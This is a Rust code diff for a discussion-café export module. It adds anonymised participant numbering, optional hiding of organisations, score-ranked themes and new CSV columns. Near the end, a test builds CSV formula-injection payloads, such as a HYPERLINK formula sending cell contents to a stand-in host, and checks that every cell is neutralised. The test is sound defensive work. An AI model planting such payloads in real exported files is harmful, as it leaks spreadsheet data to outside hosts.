@@ -4,6 +4,10 @@
 
 mod csv;
 mod markdown;
+mod pseudonyms;
+pub mod ranking;
+
+use std::collections::HashMap;
 
 use flamingo_protocol::{
     Authors, CafeExport, ExportFeedback, ExportFormat, ExportNote, ExportParticipant, ExportRound,
@@ -57,22 +61,37 @@ pub fn export(
 /// The café as data: the JSON export, and what the other formats are written from.
 pub fn cafe_export(cafe: &Cafe, authors: Authors, now: Millis) -> CafeExport {
     let harvest = &cafe.harvest;
-    let key = |p: ParticipantId| match authors {
-        Authors::Shown => p.to_string(),
-        Authors::Anonymous => format!("P{}", cafe.join_index(p) + 1),
+    let numbers = match authors {
+        Authors::Shown => HashMap::new(),
+        Authors::Anonymous | Authors::AnonymousWithOrganisations => pseudonyms::numbers(cafe),
     };
-    let participants = cafe
-        .participants
-        .iter()
-        .enumerate()
-        .map(|(i, p)| ExportParticipant {
+    let number = |p: ParticipantId| numbers.get(&p).copied().unwrap_or(0);
+    let key = |p: ParticipantId| {
+        if authors.names_shown() {
+            p.to_string()
+        } else {
+            format!("P{}", number(p))
+        }
+    };
+    let mut people: Vec<_> = cafe.participants.iter().collect();
+    if !authors.names_shown() {
+        // Listed in join order, the numbers would lead back to the join order.
+        people.sort_by_key(|p| number(p.id));
+    }
+    let participants = people
+        .into_iter()
+        .map(|p| ExportParticipant {
             key: key(p.id),
-            label: match authors {
-                Authors::Shown => p.name.clone(),
-                Authors::Anonymous => format!("Participant {}", i + 1),
+            label: if authors.names_shown() {
+                p.name.clone()
+            } else {
+                format!("Participant {}", number(p.id))
             },
-            organisation: p.organisation.clone(),
-            role: p.role.clone(),
+            organisation: p
+                .organisation
+                .clone()
+                .filter(|_| authors.organisations_shown()),
+            role: p.role.clone().filter(|_| authors.organisations_shown()),
             present: p.present,
         })
         .collect();
@@ -120,22 +139,22 @@ pub fn cafe_export(cafe: &Cafe, authors: Authors, now: Millis) -> CafeExport {
         })
         .collect();
     notes.sort_by_key(|n| (n.round, n.table, n.posted_at));
-    let mut themes: Vec<ExportTheme> = harvest
-        .themes
-        .iter()
-        .map(|t| ExportTheme {
-            theme_id: t.id,
-            name: t.name.clone(),
-            votes: harvest.total(VoteTarget::Theme { theme_id: t.id }),
-            note_ids: notes
-                .iter()
-                .filter(|n| n.theme_id == Some(t.id))
-                .map(|n| n.note_id)
-                .collect(),
+    let themes = ranking::ranked_themes(cafe)
+        .into_iter()
+        .filter_map(|r| {
+            Some(ExportTheme {
+                theme_id: r.theme_id,
+                name: harvest.theme(r.theme_id)?.name.clone(),
+                votes: r.own,
+                score: r.score,
+                note_ids: notes
+                    .iter()
+                    .filter(|n| n.theme_id == Some(r.theme_id))
+                    .map(|n| n.note_id)
+                    .collect(),
+            })
         })
         .collect();
-    // Stable: equal votes keep the order the themes were made in.
-    themes.sort_by_key(|t| std::cmp::Reverse(t.votes));
     // Sorted by content, so the order says nothing about who answered first.
     let mut responses: Vec<_> = harvest.feedback.values().cloned().collect();
     responses.sort_by(|a, b| format!("{a:?}").cmp(&format!("{b:?}")));
@@ -182,7 +201,7 @@ fn instant(ms: Millis) -> String {
 }
 
 /// Looks participants up by key for the writers.
-struct People<'a>(std::collections::HashMap<&'a str, &'a ExportParticipant>);
+struct People<'a>(HashMap<&'a str, &'a ExportParticipant>);
 
 impl<'a> People<'a> {
     fn of(data: &'a CafeExport) -> Self {
@@ -242,17 +261,18 @@ mod tests {
         }
     }
 
-    fn theme(n: u128, name: &str, votes: u32, note_ids: Vec<NoteId>) -> ExportTheme {
+    fn theme(n: u128, name: &str, votes: u32, score: u32, note_ids: Vec<NoteId>) -> ExportTheme {
         ExportTheme {
             theme_id: id(n),
             name: name.into(),
             votes,
+            score,
             note_ids,
         }
     }
 
     /// A café as `cafe_export` makes it with anonymous authors: keys `P1`, labels
-    /// `Participant 1`; themes come ranked by dots.
+    /// `Participant 1`; themes come ranked by score.
     fn sample() -> CafeExport {
         let participant = |i: usize| ExportParticipant {
             key: format!("P{i}"),
@@ -287,8 +307,8 @@ mod tests {
                 note(12, "P2", "an unthemed note", None, 1),
             ],
             themes: vec![
-                theme(101, "Money *matters*", 5, vec![id(11)]),
-                theme(100, "# <b>Trust</b> | people", 1, vec![id(10)]),
+                theme(101, "Money *matters*", 5, 5, vec![id(11)]),
+                theme(100, "# <b>Trust</b> | people", 1, 3, vec![id(10)]),
             ],
             commitments: vec![Commitment {
                 commitment_id: id(200),
@@ -344,10 +364,13 @@ mod tests {
     }
 
     #[test]
-    fn the_report_ranks_themes_by_dots_and_escapes_their_names() {
+    fn the_report_ranks_themes_by_score_and_escapes_their_names() {
         let md = markdown::report(&sample());
-        let money = position(&md, "#### 1. Money \\*matters\\* · 5 dots");
-        let trust = position(&md, "#### 2. \\# \\<b\\>Trust\\</b\\> \\| people · 1 dot");
+        let money = position(&md, "#### 1. Money \\*matters\\* · 5 dots\n\n- ");
+        let trust = position(
+            &md,
+            "#### 2. \\# \\<b\\>Trust\\</b\\> \\| people · 3 dots\n\n1 dot on the theme, 2 on its notes.",
+        );
         assert!(money < trust);
         assert!(!md.contains("<b>"), "{md}");
         // Harvest before the notes by round; within the harvest, themes, commitments, feedback.
@@ -403,7 +426,7 @@ mod tests {
     }
 
     #[test]
-    fn csv_rows_end_with_theme_and_votes() {
+    fn csv_rows_end_with_theme_votes_and_the_themes_rank() {
         let body = csv::notes(&sample()).expect("csv");
         let mut r = ::csv::Reader::from_reader(body.as_bytes());
         let header: Vec<String> = r
@@ -412,16 +435,91 @@ mod tests {
             .iter()
             .map(Into::into)
             .collect();
-        assert_eq!(&header[header.len() - 3..], ["note_id", "theme", "votes"]);
+        assert_eq!(
+            &header[header.len() - 5..],
+            ["note_id", "theme", "votes", "theme_rank", "theme_score"]
+        );
         let rows: Vec<::csv::StringRecord> = r.records().map(|x| x.expect("row")).collect();
-        let cols: Vec<(&str, &str, &str)> = rows.iter().map(|x| (&x[5], &x[12], &x[13])).collect();
+        let cols: Vec<Vec<&str>> = rows
+            .iter()
+            .map(|x| vec![&x[5], &x[12], &x[13], &x[14], &x[15]])
+            .collect();
         assert_eq!(
             cols,
             [
-                ("Participant 1", "# <b>Trust</b> | people", "2"),
-                ("Participant 2", "Money *matters*", "0"),
-                ("Participant 2", "", "1"),
+                ["Participant 1", "# <b>Trust</b> | people", "2", "2", "3"],
+                ["Participant 2", "Money *matters*", "0", "1", "5"],
+                ["Participant 2", "", "1", "", ""],
             ]
         );
+    }
+
+    /// OWASP's CSV injection rule: a cell that starts with any of these is prefixed with `'`.
+    const FORMULA_STARTS: [&str; 6] = ["=", "+", "-", "@", "\t", "\r"];
+
+    #[test]
+    fn csv_cells_that_could_run_as_formulas_are_inert_in_every_column() {
+        for start in FORMULA_STARTS.iter().chain(&["\0", "\u{FF1D}", "\n"]) {
+            let evil = |what: &str| format!("{start}HYPERLINK(\"http://x.test/?\"&A1,\"{what}\")");
+            let mut data = sample();
+            data.title = evil("title");
+            data.rounds[0].question = evil("question");
+            for p in &mut data.participants {
+                p.label = evil(&p.key);
+                p.organisation = Some(evil("organisation"));
+                p.role = Some(evil("role"));
+            }
+            for n in &mut data.notes {
+                n.text = evil("note");
+            }
+            for t in &mut data.themes {
+                t.name = evil("theme");
+            }
+            let body = csv::notes(&data).expect("csv");
+            let mut r = ::csv::Reader::from_reader(body.as_bytes());
+            let header: Vec<String> = r
+                .headers()
+                .expect("header")
+                .iter()
+                .map(Into::into)
+                .collect();
+            let col = |name: &str| header.iter().position(|h| h == name).expect(name);
+            let rows: Vec<::csv::StringRecord> = r.records().map(|x| x.expect("row")).collect();
+            assert_eq!(rows.len(), 3);
+            for row in &rows {
+                for cell in row {
+                    assert!(
+                        cell.is_empty() || csv::inert(cell) == cell,
+                        "{start:?}: a cell a spreadsheet would run: {cell:?}"
+                    );
+                }
+                for (column, what) in [
+                    ("cafe", "title"),
+                    ("question", "question"),
+                    ("organisation", "organisation"),
+                    ("role", "role"),
+                    ("text", "note"),
+                ] {
+                    assert_eq!(row[col(column)], format!("'{}", evil(what)), "{column}");
+                }
+                assert!(row[col("author")].starts_with(&format!("'{start}")));
+                assert!(row[col("host")].starts_with(&format!("'{start}")));
+            }
+            assert_eq!(rows[0][col("theme")], format!("'{}", evil("theme")));
+        }
+        // Every cell is quoted, so no spreadsheet's own separator can start a new cell.
+        let body = csv::notes(&sample()).expect("csv");
+        for line in body.lines() {
+            assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
+        }
+    }
+
+    #[test]
+    fn harmless_cells_are_written_as_they_are() {
+        for cell in [
+            "", "plain", "'quoted", " =spaced", "1+1", "a-b", "#tag", "x@y",
+        ] {
+            assert_eq!(csv::inert(cell), cell);
+        }
     }
 }
